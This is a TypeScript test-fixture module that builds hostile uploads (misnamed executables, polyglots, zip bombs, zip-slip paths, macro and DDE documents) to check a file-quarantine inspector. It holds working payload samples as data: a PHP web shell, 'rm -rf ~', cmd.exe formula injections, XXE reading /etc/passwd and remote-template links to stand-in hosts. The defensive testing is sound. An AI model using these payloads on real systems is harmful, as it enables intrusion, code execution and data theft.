import { deflateRawSync } from 'node:zlib';
import { quarantineCode, type QuarantineCode } from '../../shared/domain/evidence/inspection.ts';
import {
  buildCompound,
  buildHeic,
  buildJpeg,
  buildMp4,
  buildOffice,
  buildPdf,
  buildPng,
  buildZip,
  bytesOf,
  noise,
  unicodeNameExtra,
  utf8,
  type ZipPart,
} from './file-builders.ts';

/** A file that must be set aside, and for what. `declared` is where it lies about more than its name. */
export type HostileFile = Readonly<{
  what: string;
  name: string;
  bytes: () => Uint8Array;
  reasons: readonly QuarantineCode[];
  contentType?: string;
  declaredSize?: number;
  declaredSha256?: string;
}>;

const MiB = 1_048_576;
const pdf = (): Uint8Array => buildPdf(['<< /Type /Catalog >>']);
const smallZip = (): Uint8Array => buildZip([{ name: '说明.txt', data: '说明' }]);
const zipOf = (...parts: ZipPart[]) => buildZip(parts);
const cut = (bytes: Uint8Array, share: number) => bytes.subarray(0, Math.floor(bytes.length * share));
const zeros = (size: number) => deflateRawSync(Buffer.alloc(size), { level: 9 });
const outside = (type: string, target: string) =>
  `<Relationships><Relationship Id="a" Type="x/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
function codes(reasons: readonly string[]): readonly QuarantineCode[] {
  return reasons.map((code) => quarantineCode.parse(code));
}

const arrivals: readonly HostileFile[] = [
  { what: 'nothing at all', name: '空.pdf', bytes: () => new Uint8Array(), reasons: ['empty'] },
  {
    what: 'one byte over the limit',
    name: '录像.mp4',
    bytes: () => Buffer.alloc(100 * MiB + 1),
    reasons: ['too-large'],
  },
  {
    what: 'fewer bytes than announced',
    name: '通知.pdf',
    bytes: pdf,
    declaredSize: 9_999,
    reasons: ['size-differs'],
  },
  {
    what: 'other bytes of the announced length',
    name: '通知.pdf',
    bytes: pdf,
    declaredSha256: '0'.repeat(64),
    reasons: ['hash-differs'],
  },
];

const names: readonly HostileFile[] = [
  ['a path that climbs out', '../../etc/通知.pdf'],
  ['a Windows path', '..\\通知.pdf'],
  ['text turned around', '通知\u202efdp.pdf'],
  ['an isolate that hides its end', '通知\u2066exe.pdf'],
  ['a control character', '通知\u0007.pdf'],
  ['a line break', '通知\n.pdf'],
  ['a zero byte', '通知.exe\0.pdf'],
  ['a device of Windows', 'con.pdf'],
  ['a second stream of NTFS', '通知.txt:隐藏.pdf'],
  ['half a character', '通知\ud83d.pdf'],
  ['256 characters', `${'长'.repeat(252)}.pdf`],
  ['a blank in front', ' 通知.pdf'],
].map(([what = '', name = '']) => ({
  what: `a name with ${what}`,
  name,
  bytes: pdf,
  reasons: codes(['name-unsafe']),
}));

const types: readonly HostileFile[] = [
  { what: 'a program by name', name: '通知.pdf.exe', bytes: pdf, reasons: ['type-not-accepted'] },
  {
    what: 'a document made for macros',
    name: '报表.docm',
    bytes: () => buildOffice('word'),
    reasons: ['type-not-accepted'],
  },
  {
    what: 'a page by name',
    name: '通知.html',
    bytes: () => utf8('<html></html>'),
    reasons: ['type-not-accepted'],
  },
  { what: 'no extension', name: '通知', bytes: pdf, reasons: ['type-not-accepted'] },
  {
    what: 'a dot at the end, which Windows drops',
    name: '通知.pdf.',
    bytes: pdf,
    reasons: ['name-unsafe', 'type-not-accepted'],
  },
  {
    what: 'a PDF declared as a page',
    name: '通知.pdf',
    contentType: 'text/html',
    bytes: pdf,
    reasons: ['content-type-differs'],
  },
  {
    what: 'a page named as a picture',
    name: '照片.png',
    bytes: () => utf8('<!DOCTYPE html><script>1</script>'),
    reasons: ['type-differs'],
  },
  {
    what: 'a page behind blanks and a mark',
    name: '照片.jpg',
    bytes: () => utf8('\ufeff \r\n<html>'),
    reasons: ['type-differs'],
  },
  {
    what: 'a drawing with a script named as a picture',
    name: '图标.png',
    bytes: () => utf8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    reasons: ['type-differs'],
  },
  {
    what: 'a GIF named as a JPEG',
    name: '照片.jpg',
    bytes: () => bytesOf('GIF89a', [1, 0, 1, 0, 0, 0, 0]),
    reasons: ['type-differs'],
  },
  {
    what: 'a GIF that is also a script',
    name: '照片.jpg',
    bytes: () => utf8('GIF89a/*....*/=1;alert(1)'),
    reasons: ['type-differs'],
  },
  {
    what: 'a Windows program',
    name: '通知.pdf',
    bytes: () => bytesOf('MZ', Buffer.alloc(126), 'PE\0\0'),
    reasons: ['type-differs'],
  },
  {
    what: 'a Linux program',
    name: '照片.png',
    bytes: () => bytesOf('\x7fELF', Buffer.alloc(60)),
    reasons: ['type-differs'],
  },
  {
    what: 'a PHP program',
    name: '照片.jpg',
    bytes: () => utf8('<?php system($_GET[0]);'),
    reasons: ['type-differs'],
  },
  {
    what: 'a shell script named as text',
    name: '说明.txt',
    bytes: () => utf8('#!/bin/sh\nrm -rf ~\n'),
    reasons: ['type-differs'],
  },
  {
    what: 'a page named as text',
    name: '说明.txt',
    bytes: () => utf8('<html><body>'),
    reasons: ['type-differs'],
  },
  {
    what: 'a shortcut',
    name: '通知.doc',
    bytes: () => bytesOf('L\0\0\0\x01\x14\x02\0', Buffer.alloc(68)),
    reasons: ['type-differs'],
  },
  { what: 'a PNG named as a JPEG', name: '照片.jpg', bytes: () => buildPng(), reasons: ['type-differs'] },
  {
    what: 'a film of another maker',
    name: '录像.mp4',
    bytes: () => buildMp4('qt  '),
    reasons: ['type-differs'],
  },
  {
    what: 'a RAR archive',
    name: '材料.zip',
    bytes: () => bytesOf('Rar!\x1a\x07\x01\0', Buffer.alloc(20)),
    reasons: ['type-differs'],
  },
  {
    what: 'rich text named as Word',
    name: '通知.doc',
    bytes: () => utf8('{\\rtf1\\ansi}'),
    reasons: ['type-differs'],
  },
  { what: 'noise', name: '通知.pdf', bytes: () => noise(4_096), reasons: ['type-unknown'] },
  {
    what: 'a PDF behind a page',
    name: '通知.pdf',
    bytes: () => bytesOf('<html><!--', pdf(), '-->'),
    reasons: ['type-differs'],
  },
  {
    what: 'Word named as Excel',
    name: '报表.xlsx',
    bytes: () => buildOffice('word'),
    reasons: ['type-differs'],
  },
  {
    what: 'Word named as an archive',
    name: '材料.zip',
    bytes: () => buildOffice('word'),
    reasons: ['type-differs'],
  },
  { what: 'an archive named as Word', name: '通知.docx', bytes: smallZip, reasons: ['type-differs'] },
  { what: 'an archive named as OFD', name: '公文.ofd', bytes: smallZip, reasons: ['type-differs'] },
  {
    what: 'old Word named as old Excel',
    name: '报表.xls',
    bytes: () => buildCompound(['WordDocument']),
    reasons: ['type-differs'],
  },
  {
    what: 'an installer named as Word',
    name: '通知.doc',
    bytes: () => buildCompound(['_Tables', '_Columns']),
    reasons: ['type-differs'],
  },
  {
    what: 'a package that is Word and Excel at once',
    name: '通知.docx',
    bytes: () => buildOffice('word', { 'xl/workbook.xml': '<workbook/>' }),
    reasons: ['type-differs'],
  },
  {
    what: 'a package that is Word and OFD at once',
    name: '公文.ofd',
    bytes: () => buildOffice('word', { 'OFD.xml': '<OFD/>' }),
    reasons: ['type-differs'],
  },
  {
    what: 'zeros named as text',
    name: '说明.txt',
    bytes: () => Buffer.alloc(100),
    reasons: ['text-unreadable'],
  },
  {
    what: 'bytes of no encoding',
    name: '名单.csv',
    bytes: () => bytesOf('a,b\n', [0x80, 0xff, 0xff]),
    reasons: ['text-unreadable'],
  },
];

const pictures: readonly HostileFile[] = [
  {
    what: 'a PNG of 50,000 × 50,000',
    name: '照片.png',
    bytes: () => buildPng({ width: 50_000, height: 50_000 }),
    reasons: ['image-too-large'],
  },
  {
    what: 'a JPEG of 65,500 × 65,500',
    name: '照片.jpg',
    bytes: () => buildJpeg({ width: 65_500, height: 65_500 }),
    reasons: ['image-too-large'],
  },
  {
    what: 'a HEIC of 20,000 × 20,000',
    name: '照片.heic',
    bytes: () => buildHeic({ width: 20_000, height: 20_000 }),
    reasons: ['image-too-large'],
  },
  {
    what: 'a JPEG cut off',
    name: '照片.jpg',
    bytes: () => buildJpeg().subarray(0, -2),
    reasons: ['truncated'],
  },
  {
    what: 'a JPEG cut off in a header',
    name: '照片.jpg',
    bytes: () => cut(buildJpeg(), 0.2),
    reasons: ['truncated'],
  },
  {
    what: 'a JPEG without a picture',
    name: '照片.jpg',
    bytes: () => buildJpeg({ withoutFrame: true }),
    reasons: ['damaged'],
  },
  {
    what: 'a JPEG of empty segments',
    name: '照片.jpg',
    bytes: () => buildJpeg({ emptySegments: 200_000 }),
    reasons: ['damaged'],
  },
  { what: 'a PNG cut off', name: '照片.png', bytes: () => cut(buildPng(), 0.8), reasons: ['truncated'] },
  {
    what: 'a PNG without width',
    name: '照片.png',
    bytes: () => buildPng({ width: 0 }),
    reasons: ['damaged'],
  },
  {
    what: 'a HEIC cut off',
    name: '照片.heic',
    bytes: () => cut(buildHeic({ width: 64, height: 64 }), 0.5),
    reasons: ['truncated'],
  },
  {
    what: 'a JPEG with an archive behind it',
    name: '照片.jpg',
    bytes: () => bytesOf(buildJpeg(), smallZip()),
    reasons: ['two-types-at-once'],
  },
  {
    what: 'a JPEG with a script in its comment',
    name: '照片.jpg',
    bytes: () =>
      buildJpeg({ exif: Buffer.alloc(2_000), comment: '<script>alert(1)</script>', emptySegments: 500 }),
    reasons: ['two-types-at-once'],
  },
  {
    what: 'a PNG with a page behind it',
    name: '照片.png',
    bytes: () => bytesOf(buildPng(), '<html><body>'),
    reasons: ['two-types-at-once'],
  },
  { what: 'a film cut off', name: '录像.mp4', bytes: () => cut(buildMp4(), 0.9), reasons: ['truncated'] },
  {
    what: 'a film without its index',
    name: '录像.mp4',
    bytes: () => buildMp4().subarray(0, 32),
    reasons: ['truncated'],
  },
  {
    what: 'a film with a box of no size',
    name: '录像.mp4',
    bytes: () => bytesOf(buildMp4(), [0, 0, 0, 4], 'free'),
    reasons: ['damaged'],
  },
];

const documents: readonly HostileFile[] = [
  {
    what: 'a document with macros',
    name: '报表.docx',
    bytes: () => buildOffice('word', { 'word/vbaProject.bin': 'x' }),
    reasons: ['office-macros'],
  },
  {
    what: 'a document with macros under another name',
    name: '报表.xlsx',
    bytes: () =>
      buildOffice('xl', {
        '[Content_Types].xml':
          '<Types><Override PartName="/xl/data.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        'xl/data.bin': 'x',
      }),
    reasons: ['office-macros'],
  },
  {
    what: 'a workbook with macro sheets',
    name: '报表.xlsx',
    bytes: () => buildOffice('xl', { 'xl/macrosheets/sheet1.xml': '<a/>' }),
    reasons: ['office-macros'],
  },
  {
    what: 'a field that starts a program',
    name: '通知.docx',
    bytes: () =>
      buildOffice('word', {
        'word/document.xml': '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>',
      }),
    reasons: ['office-starts-program'],
  },
  {
    what: 'a workbook that starts a program',
    name: '台账.xlsx',
    bytes: () =>
      buildOffice('xl', {
        'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      }),
    reasons: ['workbook-links-outside', 'office-starts-program'],
  },
  {
    what: 'a table that starts a program',
    name: '台账.csv',
    bytes: () => utf8("标题\n=cmd|'/C calc'!A0\n"),
    reasons: ['table-starts-program'],
  },
  {
    what: 'a workbook with a formula that starts a program',
    name: '台账.xlsx',
    bytes: () =>
      buildOffice('xl', {
        'xl/worksheets/sheet1.xml': "<worksheet><c><f>cmd|'/C calc'!A0</f><v>0</v></c></worksheet>",
      }),
    reasons: ['office-starts-program'],
  },
  {
    what: 'a table that starts a program behind a comma and quotation marks',
    name: '台账.csv',
    bytes: () => utf8('标题,备注\n通知,"  =cmd|\'/C calc,1\'!A0"\n'),
    reasons: ['table-starts-program'],
  },
  {
    what: 'a workbook whose figures come from another file',
    name: '台账.xlsx',
    bytes: () => buildOffice('xl', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
    reasons: ['workbook-links-outside'],
  },
  {
    what: 'a workbook with a connection to an address',
    name: '台账.xlsx',
    bytes: () =>
      buildOffice('xl', {
        'xl/_rels/workbook.xml.rels':
          '<Relationships><Relationship Id="a" Type="x/externalLinkPath" Target="http://example.com/t.xlsx" TargetMode="External"/></Relationships>',
      }),
    reasons: ['workbook-links-outside'],
  },
  ...[
    [
      'a template at an address',
      'word/_rels/settings.xml.rels',
      'attachedTemplate',
      'http://example.com/t.dotm',
    ],
    [
      'a template on another machine',
      'word/_rels/settings.xml.rels',
      'attachedTemplate',
      'file://\\\\198.51.100.7\\t\\t.dotm',
    ],
    [
      'a template on another machine without a scheme',
      'word/_rels/settings.xml.rels',
      'attachedTemplate',
      '\\\\198.51.100.7\\t.dotm',
    ],
    [
      'an object from an address',
      'word/_rels/document.xml.rels',
      'oleObject',
      'mhtml:http://example.com/x.html!x-usc:http://example.com/x.html',
    ],
    [
      'an object of the reader’s own disk',
      'word/_rels/document.xml.rels',
      'oleObject',
      'file:///C:\\Windows\\win.ini',
    ],
    [
      'a picture from an address',
      'word/_rels/document.xml.rels',
      'image',
      'http://example.com/who-reads.png',
    ],
    ['a picture in its heading', 'word/_rels/header1.xml.rels', 'image', 'https://example.com/who-reads.png'],
    ['a frame', 'word/_rels/webSettings.xml.rels', 'frame', 'http://example.com/frame.docx'],
    [
      'a part of itself elsewhere',
      'word/_rels/document.xml.rels',
      'subDocument',
      'http://example.com/part.docx',
    ],
    [
      'a picture whose address ends like a link to click',
      'word/_rels/document.xml.rels',
      'image',
      'http://example.com/hyperlink',
    ],
  ].map(([what = '', part = '', type = '', target = '']): HostileFile => ({
    what: `a document with ${what}`,
    name: '通知.docx',
    bytes: () => buildOffice('word', { [part]: outside(type, target) }),
    reasons: codes(['document-loads-outside']),
  })),
  {
    what: 'a document whose reference outside is written in character codes',
    name: '通知.docx',
    bytes: () =>
      buildOffice('word', {
        'word/_rels/settings.xml.rels': outside('attachedTemplate', 'http://example.com/t.dotm').replace(
          'External',
          '&#69;xtern&#x61;l',
        ),
      }),
    reasons: ['document-loads-outside'],
  },
  {
    what: 'a document whose reference outside has a long prefix',
    name: '通知.docx',
    bytes: () =>
      buildOffice('word', {
        'word/_rels/settings.xml.rels': outside('attachedTemplate', 'http://example.com/t.dotm').replaceAll(
          'Relationship',
          'prefixlongerthansixteenletters:Relationship',
        ),
      }),
    reasons: ['document-loads-outside'],
  },
  {
    what: 'a presentation with a picture from an address',
    name: '汇报.pptx',
    bytes: () =>
      buildOffice('ppt', {
        'ppt/slides/_rels/slide1.xml.rels': outside('image', 'http://example.com/who-reads.png'),
      }),
    reasons: ['document-loads-outside'],
  },
  {
    what: 'a presentation with a film from an address',
    name: '汇报.pptx',
    bytes: () =>
      buildOffice('ppt', {
        'ppt/slides/_rels/slide1.xml.rels': outside('video', 'https://example.com/film.mp4'),
      }),
    reasons: ['document-loads-outside'],
  },
  {
    what: 'an archive with a document with a template at an address',
    name: '材料.zip',
    bytes: () =>
      zipOf({
        name: '通知.docx',
        data: buildOffice('word', {
          'word/_rels/settings.xml.rels': outside('attachedTemplate', 'http://example.com/t.dotm'),
        }),
      }),
    reasons: ['document-loads-outside'],
  },
  { what: 'a PDF cut off', name: '通知.pdf', bytes: () => cut(pdf(), 0.6), reasons: ['truncated'] },
  {
    what: 'a PDF that is also a page',
    name: '通知.pdf',
    bytes: () => bytesOf('%PDF-1.7\n%<html><script>alert(1)</script>\n', pdf().subarray(9)),
    reasons: ['two-types-at-once'],
  },
  {
    what: 'a PDF that is also an archive',
    name: '通知.pdf',
    bytes: () => bytesOf(pdf(), smallZip()),
    reasons: ['two-types-at-once'],
  },
  {
    what: 'an Office document with a password',
    name: '通知.docx',
    bytes: () => buildCompound(['EncryptionInfo', 'EncryptedPackage']),
    reasons: ['password-protected'],
  },
  {
    what: 'an old document whose directory runs in a circle',
    name: '通知.doc',
    bytes: () => buildCompound(['WordDocument'], { directoryGoesTo: 1 }),
    reasons: ['damaged'],
  },
  {
    what: 'an old document whose directory leads nowhere',
    name: '通知.doc',
    bytes: () => buildCompound(['WordDocument'], { directoryGoesTo: 9_000 }),
    reasons: ['truncated'],
  },
  {
    what: 'an old document that lacks a sector',
    name: '报表.xls',
    bytes: () => buildCompound(['Workbook'], { alsoInUse: 100 }),
    reasons: ['truncated'],
  },
  {
    what: 'an old document cut off',
    name: '通知.doc',
    bytes: () => buildCompound(['WordDocument']).subarray(0, 700),
    reasons: ['truncated'],
  },
  {
    what: 'a document whose entities multiply',
    name: '通知.docx',
    bytes: () =>
      buildOffice('word', {
        'word/document.xml': '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;">]><a>&y;</a>',
      }),
    reasons: ['xml-entities'],
  },
  {
    what: 'a document that fetches a file of the server',
    name: '报表.xlsx',
    bytes: () =>
      buildOffice('xl', {
        'xl/workbook.xml': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      }),
    reasons: ['xml-entities'],
  },
  {
    what: 'entities behind another encoding',
    name: '通知.docx',
    bytes: () =>
      buildOffice('word', {
        'word/settings.xml': bytesOf(
          [0xff, 0xfe],
          Buffer.from('<!DOCTYPE a [<!ENTITY x "ha">]><a/>', 'utf16le'),
        ),
      }),
    reasons: ['xml-entities'],
  },
  {
    what: 'an OFD with entities',
    name: '公文.ofd',
    bytes: () => zipOf({ name: 'OFD.xml', data: '<!DOCTYPE OFD SYSTEM "http://example.com/x.dtd"><OFD/>' }),
    reasons: ['xml-entities'],
  },
  {
    what: 'elements 10,000 deep',
    name: '通知.docx',
    bytes: () =>
      buildOffice('word', { 'word/document.xml': `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}` }),
    reasons: ['xml-too-deep'],
  },
  {
    what: 'a sheet of 40 MB',
    name: '报表.xlsx',
    bytes: () =>
      zipOf(
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'xl/worksheets/sheet1.xml', data: noise(MiB), told: { size: 40 * MiB } },
      ),
    reasons: ['office-part-too-big'],
  },
  {
    what: 'an archive inside a document',
    name: '通知.docx',
    bytes: () => buildOffice('word', { 'word/embeddings/对象.bin': smallZip() }),
    reasons: ['archive-nested'],
  },
];

const archives: readonly HostileFile[] = [
  {
    what: 'a bomb that says so',
    name: '材料.zip',
    bytes: () => zipOf({ name: '0', packed: zeros(MiB), told: { size: 1_000 * MiB } }),
    reasons: ['archive-too-big', 'archive-ratio'],
  },
  {
    what: 'a flat bomb',
    name: '材料.zip',
    bytes: () => zipOf({ name: '0', data: Buffer.alloc(17 * MiB) }),
    reasons: ['archive-ratio'],
  },
  {
    what: 'a bomb of many small files',
    name: '材料.zip',
    bytes: () => {
      const packed = zeros(20_000);
      return buildZip(
        Array.from({ length: 1_000 }, (_, index) => ({ name: `${index}`, packed, told: { size: 20_000 } })),
      );
    },
    reasons: ['archive-ratio'],
  },
  {
    what: 'a bomb that says it is small',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', packed: zeros(10 * MiB), told: { size: 100 } }),
    reasons: ['archive-contradicts'],
  },
  {
    what: 'a bomb in a large file that says it hardly shrank',
    name: '材料.zip',
    bytes: () => zipOf({ name: '录像.mp4', packed: zeros(300 * MiB), told: { size: 40 * MiB } }),
    reasons: ['archive-ratio'],
  },
  {
    what: 'a file that says it is larger than it is',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', data: '说明', told: { size: 1_000 } }),
    reasons: ['archive-contradicts'],
  },
  {
    what: 'a stored file with two sizes',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', data: '说明', stored: true, told: { size: 7 } }),
    reasons: ['archive-contradicts'],
  },
  {
    what: 'a directory that differs from the header in size',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', data: '说明', toldLocally: { size: 5 } }),
    reasons: ['archive-contradicts'],
  },
  {
    what: 'a directory that differs from the header in name',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', data: '说明', toldLocally: { name: '说明.exe' } }),
    reasons: ['archive-contradicts'],
  },
  {
    what: 'packed bytes that are none',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', packed: bytesOf([0xff, 0xff, 0xff, 0xff]), told: { size: 40 } }),
    reasons: ['archive-contradicts'],
  },
  {
    what: 'an archive inside',
    name: '材料.zip',
    bytes: () => zipOf({ name: '内层.zip', data: smallZip(), stored: true }),
    reasons: ['archive-nested'],
  },
  {
    what: 'an archive inside, named as a picture',
    name: '材料.zip',
    bytes: () => zipOf({ name: '照片.jpg', data: smallZip() }),
    reasons: ['archive-nested'],
  },
  {
    what: 'a RAR archive inside, named as text',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', data: bytesOf('Rar!\x1a\x07\0', Buffer.alloc(20)) }),
    reasons: ['archive-nested'],
  },
  {
    what: 'a document in a document in a document in an archive',
    name: '材料.zip',
    bytes: () => {
      const inner = buildOffice('xl', { 'xl/embeddings/内.xlsx': buildOffice('xl') });
      return zipOf({ name: '报告.docx', data: buildOffice('word', { 'word/embeddings/表.xlsx': inner }) });
    },
    reasons: ['archive-nested'],
  },
  {
    what: 'a bomb in a document in an archive',
    name: '材料.zip',
    bytes: () =>
      zipOf({ name: '报告.docx', data: buildOffice('word', { 'word/media/0.bin': Buffer.alloc(17 * MiB) }) }),
    reasons: ['archive-ratio'],
  },
  {
    what: 'two files that share their bytes',
    name: '材料.zip',
    bytes: () => zipOf({ name: '甲.txt', data: '说明' }, { name: '乙.txt', data: '说明', sharesPart: 0 }),
    reasons: ['archive-contradicts', 'archive-overlaps'],
  },
  {
    what: 'a file that reaches into the next',
    name: '材料.zip',
    bytes: () =>
      zipOf(
        { name: '甲.bin', data: noise(64), stored: true, told: { size: 80, packedSize: 80 } },
        { name: '乙.bin', data: noise(64), stored: true },
      ),
    reasons: ['archive-overlaps'],
  },
  {
    what: '50,000 files',
    name: '材料.zip',
    bytes: () =>
      buildZip(
        Array.from({ length: 50_000 }, (_, index) => ({ name: `${index}.txt`, data: '1', stored: true })),
      ),
    reasons: ['archive-too-many-entries'],
  },
  {
    what: 'documents that have 12,000 files together',
    name: '材料.zip',
    bytes: () => {
      const parts = Array.from({ length: 4_000 }, (_, index) => [`word/${index}`, ''] as const);
      const data = buildOffice('word', Object.fromEntries(parts));
      return zipOf(...['甲.docx', '乙.docx', '丙.docx'].map((name) => ({ name, data, stored: true })));
    },
    reasons: ['archive-too-many-entries'],
  },
  {
    what: 'a path that climbs out',
    name: '材料.zip',
    bytes: () => zipOf({ name: '../../etc/cron.d/x', data: '1' }),
    reasons: ['archive-name-unsafe'],
  },
  {
    what: 'a Windows path that climbs out',
    name: '材料.zip',
    bytes: () => zipOf({ name: '..\\..\\启动\\x.txt', data: '1' }),
    reasons: ['archive-name-unsafe'],
  },
  {
    what: 'a path from the root',
    name: '材料.zip',
    bytes: () => zipOf({ name: '/etc/passwd', data: '1' }),
    reasons: ['archive-name-unsafe'],
  },
  {
    what: 'a path on a drive',
    name: '材料.zip',
    bytes: () => zipOf({ name: 'C:/Windows/x.txt', data: '1' }),
    reasons: ['archive-name-unsafe'],
  },
  {
    what: 'a second name that climbs out',
    name: '材料.zip',
    bytes: () => zipOf({ name: 'ok.txt', data: '1', extra: unicodeNameExtra('../ok.txt') }),
    reasons: ['archive-name-unsafe'],
  },
  {
    what: 'a name turned around',
    name: '材料.zip',
    bytes: () => zipOf({ name: '通知\u202efdp.scr', data: '1' }),
    reasons: ['archive-name-unsafe'],
  },
  {
    what: 'a symbolic link',
    name: '材料.zip',
    bytes: () => zipOf({ name: '链接', data: '/etc/passwd', unixMode: 0o120777 }),
    reasons: ['archive-link'],
  },
  {
    what: 'a device',
    name: '材料.zip',
    bytes: () => zipOf({ name: '设备', data: '', unixMode: 0o060666 }),
    reasons: ['archive-link'],
  },
  {
    what: 'a password',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', data: '说明', told: { flags: 1 } }),
    reasons: ['password-protected'],
  },
  {
    what: 'a strong password',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', data: '说明', told: { flags: 1, method: 99 } }),
    reasons: ['password-protected'],
  },
  {
    what: 'a method that is not read here',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', data: '说明', told: { method: 14 } }),
    reasons: ['archive-method'],
  },
  {
    what: 'the same name twice but for case',
    name: '材料.zip',
    bytes: () => zipOf({ name: 'A.txt', data: '1' }, { name: 'a.TXT', data: '2' }),
    reasons: ['archive-name-repeats'],
  },
  {
    what: 'a program',
    name: '材料.zip',
    bytes: () => zipOf({ name: '安装/setup.exe', data: '1' }),
    reasons: ['archive-program'],
  },
  {
    what: 'a program named as text',
    name: '材料.zip',
    bytes: () => zipOf({ name: '说明.txt', data: bytesOf('MZ', Buffer.alloc(126), 'PE\0\0') }),
    reasons: ['archive-program'],
  },
  { what: 'no directory', name: '材料.zip', bytes: () => cut(smallZip(), 0.5), reasons: ['truncated'] },
  {
    what: 'something behind the directory',
    name: '材料.zip',
    bytes: () => bytesOf(smallZip(), 'x'),
    reasons: ['truncated'],
  },
  {
    what: 'something before the directory',
    name: '材料.zip',
    bytes: () => buildZip([{ name: 'a.txt', data: '1' }], { slippedIn: 'hidden' }),
    reasons: ['damaged'],
  },
  {
    what: 'a wrong count of files',
    name: '材料.zip',
    bytes: () => buildZip([{ name: 'a.txt', data: '1' }], { entriesTold: 2 }),
    reasons: ['damaged'],
  },
  { what: 'no files', name: '材料.zip', bytes: () => buildZip([]), reasons: ['empty'] },
].map((file): HostileFile => ({
  ...file,
  what: `an archive with ${file.what}`,
  reasons: codes(file.reasons),
}));

/** Every one is made by code when it is asked for; none is stored. */
export const hostileFiles: readonly HostileFile[] = [
  ...arrivals,
  ...names,
  ...types,
  ...pictures,
  ...documents,
  ...archives,
];
